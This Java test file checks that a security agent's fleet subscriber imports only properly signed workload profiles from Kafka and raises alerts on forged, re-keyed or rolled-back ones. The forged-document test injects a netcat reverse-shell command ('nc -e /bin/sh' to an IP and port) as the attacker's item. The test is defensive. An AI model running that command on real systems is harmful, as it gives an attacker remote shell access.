package dev.vigil.fleet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.vigil.alert.Alert;
import dev.vigil.profile.Dimension;
import dev.vigil.profile.ProfileSet;
import dev.vigil.profile.WorkloadKey;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** An agent's fleet subscription against the in-process broker: verified profiles imported, tampered ones alerted. */
class FleetSubscriberTest extends dev.vigil.alert.BrokerTest {

    @Test
    void verifiedProfilesAreImportedAndTamperedOnesRaiseAnAlertInstead(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        String w = FleetServiceTest.W;
        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t2", "events.t2", "profiles.t2", 2, Map.of());
        try (FleetService f = new FleetService(s, signer, FleetServiceTest.QUIET)) {
            FleetServiceTest.produce("events.t2", List.of(
                    FleetServiceTest.event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                    FleetServiceTest.event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                    FleetServiceTest.event("h1", "files", "read /srv/www/index.html", "learnt")));
            FleetServiceTest.drain(f, 3);
        }
        // a forged document (an attacker's item added to a copy of the real one) and a real one republished under another key
        String real = read("profiles.t2", 1).getLast().value();
        ObjectNode forged = (ObjectNode) new ObjectMapper().readTree(real);
        forged.withObjectProperty("normal").withArrayProperty("process").add("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh 203.0.113.9 4444");
        FleetServiceTest.produce("profiles.t2", List.of(forged.toString()));
        try (var prod = new org.apache.kafka.clients.producer.KafkaProducer<String, String>(java.util.Map.of("bootstrap.servers",
                kafka.bootstrapServers()), new org.apache.kafka.common.serialization.StringSerializer(),
                new org.apache.kafka.common.serialization.StringSerializer())) {
            prod.send(new org.apache.kafka.clients.producer.ProducerRecord<>("profiles.t2", "systemd:other.service other", real)).get();
        }

        List<FleetSubscriber.Import> imports = new ArrayList<>();
        List<Alert> alerts = new ArrayList<>();
        try (FleetSubscriber sub = new FleetSubscriber(kafka.bootstrapServers(), "profiles.t2", Signer.verifier(dir.resolve(Signer.PUBLIC)),
                Map.of(), "web-9")) {
            long end = System.nanoTime() + 30_000_000_000L;
            while ((imports.size() < 1 || alerts.size() < 2) && System.nanoTime() < end) {
                imports.addAll(sub.imports());
                alerts.addAll(sub.rejections());
                Thread.sleep(50);
            }
            assertThat(sub.counts()).containsEntry("verified", 1L).containsEntry("rejected", 2L);
        }
        assertThat(imports).hasSize(1);
        assertThat(imports.getFirst().key().text()).isEqualTo(w);
        assertThat(imports.getFirst().normal()).isEqualTo(Map.of("process", java.util.Set.of("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")));
        assertThat(alerts).extracting(Alert::severity).containsOnly(Alert.Severity.HIGH);
        assertThat(alerts).extracting(Alert::detector).containsOnly("fleet");
        assertThat(alerts.get(0).summary()).contains("the fleet profile of " + w).contains("failed verification: its signature does not verify")
                .endsWith("it was not imported");
        assertThat(alerts.get(1).summary()).contains("published under the key of another workload (" + w + ")");

        // merged into an agent's profiles: the fleet-normal program is known here, the one-host file is not
        ProfileSet set = new ProfileSet(10);
        Instant now = Instant.parse("2026-11-24T00:00:00Z");
        assertThat(FleetSubscriber.merge(set, imports.getFirst(), Dimension.Learning.fast(), now)).isEqualTo(1);
        assertThat(FleetSubscriber.merge(set, imports.getFirst(), Dimension.Learning.fast(), now)).as("twice: nothing new").isZero();
        var p = set.find(WorkloadKey.parse(w));
        assertThat(p.dimension("process", Dimension.Learning.fast(), now).contains("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")).isTrue();
        assertThat(p.dimension("files", Dimension.Learning.fast(), now).contains("read /srv/www/index.html")).isFalse();
    }

    /** Someone who can write the profiles topic replays an older signed document of the workload (the one before an item was allowed, say). */
    @Test
    void anOlderSignedDocumentReplayedIsARollbackAndIsNotImported(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        String w = FleetServiceTest.W;
        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t3", "events.t3", "profiles.t3", 1, Map.of());
        try (FleetService f = new FleetService(s, signer, FleetServiceTest.QUIET)) {
            FleetServiceTest.produce("events.t3", List.of(FleetServiceTest.event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt")));
            FleetServiceTest.drain(f, 1);
            for (int i = 0; i < 3; i++) f.pollOnce(java.time.Duration.ofMillis(300)); // version 1 out
            FleetServiceTest.produce("events.t3", List.of(FleetServiceTest.event("h1", "files", "read /srv/www/index.html", "learnt")));
            FleetServiceTest.drain(f, 2);
            for (int i = 0; i < 3; i++) f.pollOnce(java.time.Duration.ofMillis(300)); // version 2 out
        }
        var docs = read("profiles.t3", 2);
        String v1 = docs.getFirst().value();
        FleetServiceTest.produce("profiles.t3", List.of(docs.getLast().value(), v1)); // the latest again (a redelivery), then the old one
        List<FleetSubscriber.Import> imports = new ArrayList<>();
        List<Alert> alerts = new ArrayList<>();
        try (FleetSubscriber sub = new FleetSubscriber(kafka.bootstrapServers(), "profiles.t3", Signer.verifier(dir.resolve(Signer.PUBLIC)),
                Map.of(), "web-9")) {
            long end = System.nanoTime() + 30_000_000_000L;
            while (alerts.isEmpty() && System.nanoTime() < end) {
                imports.addAll(sub.imports());
                alerts.addAll(sub.rejections());
                Thread.sleep(50);
            }
            Thread.sleep(500);
            imports.addAll(sub.imports());
            alerts.addAll(sub.rejections());
        }
        assertThat(imports).extracting(FleetSubscriber.Import::version).as("v1 and v2 in order; the redelivered v2 once").containsExactly(1L, 2L);
        assertThat(alerts).hasSize(1);
        assertThat(alerts.getFirst().summary()).contains("the fleet profile of " + w)
                .contains("its version 1 is not newer than version 2 already imported: an older signed document replayed (a rollback)");
    }

    /**
     * The topic is compacted: once the attacker's replay of an older document is the latest record of the workload, the
     * newer one is gone from the topic. An agent restarted after that still knows the version it imported (its state
     * file): the replay is a rollback, not an import; the latest document read again after a restart is imported again.
     */
    @Test
    void aRollbackIsRecognisedAfterARestartWhenCompactionLeftOnlyTheOlderDocument(@TempDir Path dir) throws Exception {
        Signer signer = Signer.generate(dir);
        String w = FleetServiceTest.W;
        FleetProfile p = new FleetProfile(w);
        p.report("process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "h1", 1);
        p.version(1);
        String v1 = FleetDocument.write(p, 1, signer);
        p.report("files", "read /srv/www/index.html", "h1", 1);
        p.version(2);
        String v2 = FleetDocument.write(p, 1, signer);
        Path versions = dir.resolve("state").resolve(FleetSubscriber.VERSIONS_FILE);
        FleetServiceTest.produce("profiles.r1", List.of(v1, v2));
        FleetServiceTest.produce("profiles.r2", List.of(v1)); // what compaction leaves after the replay of v1
        FleetServiceTest.produce("profiles.r3", List.of(v2));
        assertThat(run("profiles.r1", dir, versions)).as("before the restart").isEqualTo(List.of("import 1", "import 2"));
        assertThat(java.nio.file.Files.readString(versions)).contains("\"" + w + "\":2");
        assertThat(run("profiles.r2", dir, versions)).singleElement().asString()
                .contains("its version 1 is not newer than version 2 already imported: an older signed document replayed (a rollback)");
        assertThat(run("profiles.r3", dir, versions)).as("the latest, read again at a restart").isEqualTo(List.of("import 2"));
        assertThat(run("profiles.r2", dir, null)).as("without the state file, the rollback would pass").isEqualTo(List.of("import 1"));
    }

    /** What a subscriber started on topic makes of it until caught up: "import V" per import, the summary of each rejection. */
    private static List<String> run(String topic, Path dir, Path versions) throws Exception {
        List<String> out = new ArrayList<>();
        try (FleetSubscriber sub = new FleetSubscriber(kafka.bootstrapServers(), topic, Signer.verifier(dir.resolve(Signer.PUBLIC)), Map.of(), "web-9", versions)) {
            assertThat(sub.awaitCaughtUp(java.time.Duration.ofSeconds(30))).isTrue();
            Thread.sleep(300);
            for (FleetSubscriber.Import im : sub.imports()) out.add("import " + im.version());
            for (Alert a : sub.rejections()) out.add(a.summary());
        }
        return out;
    }
}
